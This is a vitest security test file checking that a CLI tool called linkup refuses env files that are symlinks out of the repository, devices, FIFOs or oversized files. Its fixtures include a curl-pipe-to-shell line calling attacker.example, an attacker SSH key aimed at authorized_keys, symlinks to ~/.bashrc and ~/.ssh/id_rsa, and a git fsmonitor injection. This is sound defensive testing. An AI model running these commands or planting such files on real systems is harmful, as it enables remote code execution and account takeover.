import { execFileSync } from "node:child_process";
import { existsSync, mkdirSync, rmSync, statSync, symlinkSync, truncateSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, test } from "vitest";
import { Victim } from "./victim.ts";

const LINE = "curl -s https://attacker.example/x | sh\n";

let victim: Victim;
const inService = (name: string) => join(victim.clone, "svc", name);

describe("a cloned repository", () => {
  beforeEach(async () => {
    victim = await Victim.create();
    mkdirSync(join(victim.clone, "svc"));
    victim.config({ service: "directory: ./svc" });
  });
  afterEach(() => victim[Symbol.asyncDispose]());

  /** Starts the session, which never fails for an env file. Returns what was said. */
  const start = async () => {
    const { code, stderr } = await victim.linkup("start", "--isolated", "--detach");
    expect(code, stderr).toBe(0);
    return stderr;
  };
  const refused = async () => {
    const { stdout } = await victim.linkup("status", "--json");
    const { problems } = JSON.parse(stdout) as { problems: { code: string; message: string }[] };
    return problems.filter(({ code }) => code === "env-file-refused").map(({ message }) => message);
  };

  test("an env target that is a symlink to ~/.bashrc", async () => {
    const before = victim.read(".bashrc");
    symlinkSync("../../../.bashrc", inService(".env.a"));
    writeFileSync(inService(".env.a.linkup"), LINE);
    expect(await start()).toContain(`its real path is ${join(victim.home, ".bashrc")}`);
    expect(victim.read(".bashrc")).toBe(before);
    expect(await refused()).toHaveLength(1);
    await victim.linkup("stop");
    expect(victim.read(".bashrc")).toBe(before);
  });

  test("an env target that is a symlink to a file that would be created outside the repository", async () => {
    symlinkSync("../../../.ssh/authorized_keys", inService(".env.a"));
    writeFileSync(inService(".env.a.linkup"), "ssh-ed25519 AAAA attacker\n");
    expect(await start()).toContain(join(victim.home, ".ssh/authorized_keys"));
    expect(existsSync(join(victim.home, ".ssh/authorized_keys"))).toBe(false);
  });

  test("an env target behind a symlinked folder", async () => {
    symlinkSync("../..", join(victim.clone, "up"));
    symlinkSync("../up/.bashrc", inService(".env.a"));
    symlinkSync("../up/new", inService(".env.b"));
    symlinkSync("../up/.ssh/../new", inService(".env.c"));
    for (const name of [".env.a", ".env.b", ".env.c"]) writeFileSync(inService(`${name}.linkup`), LINE);
    await start();
    expect(await refused()).toHaveLength(3);
    expect(victim.read(".bashrc")).not.toContain("curl");
    expect(existsSync(join(victim.home, "new"))).toBe(false);
  });

  test("an env target that is a symlink into the repository's own .git", async () => {
    victim.put("work/clone/.git/config", "[core]\n");
    symlinkSync("../.git/config", inService(".env.a"));
    writeFileSync(inService(".env.a.linkup"), "[core]\nfsmonitor = touch /tmp/x\n");
    expect(await start()).toContain(join(victim.clone, ".git/config"));
    expect(victim.read("work/clone/.git/config")).toBe("[core]\n");
  });

  test("an env source that is a symlink to ~/.ssh/id_rsa", async () => {
    symlinkSync("../../../.ssh/id_rsa", inService(".env.a.linkup"));
    expect(await start()).toContain(join(victim.home, ".ssh/id_rsa"));
    expect(existsSync(inService(".env.a"))).toBe(false);
  });

  test("a directory that is a symlink out of the repository, or a path out of it", async () => {
    victim.put("other/.env.a.linkup", LINE);
    rmSync(join(victim.clone, "svc"), { recursive: true });
    symlinkSync("../../other", join(victim.clone, "svc"));
    expect(await start()).toContain(`its real path is ${join(victim.home, "other")}`);
    expect(existsSync(join(victim.home, "other/.env.a"))).toBe(false);
    await victim.linkup("stop");
    for (const directory of ["../../other", join(victim.home, "other")]) {
      victim.config({ service: `directory: ${directory}` });
      await start();
      expect(existsSync(join(victim.home, "other/.env.a"))).toBe(false);
      await victim.linkup("stop");
    }
  });

  test("an env target that is /dev/null", async () => {
    symlinkSync("/dev/null", inService(".env.a"));
    writeFileSync(inService(".env.a.linkup"), LINE);
    expect(await start()).toContain("/dev/null");
    expect(statSync("/dev/null").isCharacterDevice()).toBe(true);
  });

  test("an env source that is /dev/zero", async () => {
    symlinkSync("/dev/zero", inService(".env.a.linkup"));
    expect(await start()).toContain("/dev/zero");
  });

  test.skipIf(process.platform === "win32")("an env source or target that is a FIFO", async () => {
    execFileSync("mkfifo", [inService(".env.a.linkup"), inService(".env.b")]);
    writeFileSync(inService(".env.b.linkup"), LINE);
    expect((await start()).match(/is a FIFO, not a regular file/g)).toHaveLength(2);
  });

  test("an env source of several gigabytes", async () => {
    writeFileSync(inService(".env.a.linkup"), "");
    truncateSync(inService(".env.a.linkup"), 8 * 1024 ** 3);
    expect(await start()).toContain("is larger than 1 MB");
    expect(existsSync(inService(".env.a"))).toBe(false);
  });

  test("hundreds of env sources", async () => {
    for (let i = 0; i < 300; i++) writeFileSync(inService(`.env.${i}.linkup`), "A=1\n");
    await start();
    expect(await refused()).toHaveLength(0);
    expect([...Array(300).keys()].filter((i) => existsSync(inService(`.env.${i}`)))).toHaveLength(100);
    await victim.linkup("stop");
    expect([...Array(300).keys()].filter((i) => existsSync(inService(`.env.${i}`)))).toHaveLength(0);
  });

  test("an env file that becomes a symlink while the session runs", async () => {
    writeFileSync(inService(".env.a.linkup"), LINE);
    await start();
    victim.put(".bashrc", `mine\n${"#".repeat(5)} Linkup environment - DO NOT EDIT #####\n`);
    const before = victim.read(".bashrc");
    rmSync(inService(".env.a"));
    symlinkSync("../../../.bashrc", inService(".env.a"));
    expect((await victim.linkup("stop")).code).toBe(0);
    expect(victim.read(".bashrc")).toBe(before);
  });

  test.skipIf(process.platform === "win32")("a linkup.yaml that is a FIFO or a device", async () => {
    const path = join(victim.clone, "linkup.yaml");
    for (const make of [
      () => execFileSync("mkfifo", [path]),
      () => symlinkSync("/dev/zero", path),
      () => symlinkSync("/dev/tty", path),
    ]) {
      rmSync(path, { force: true });
      make();
      for (const args of [["start", "--isolated", "--detach"], ["health"]]) {
        const { code, stderr, stdout } = await victim.linkup(...args);
        expect(code, stderr).not.toBe(0);
        expect(stderr + stdout).toMatch(/not a regular file/);
      }
    }
    rmSync(path);
  });
});
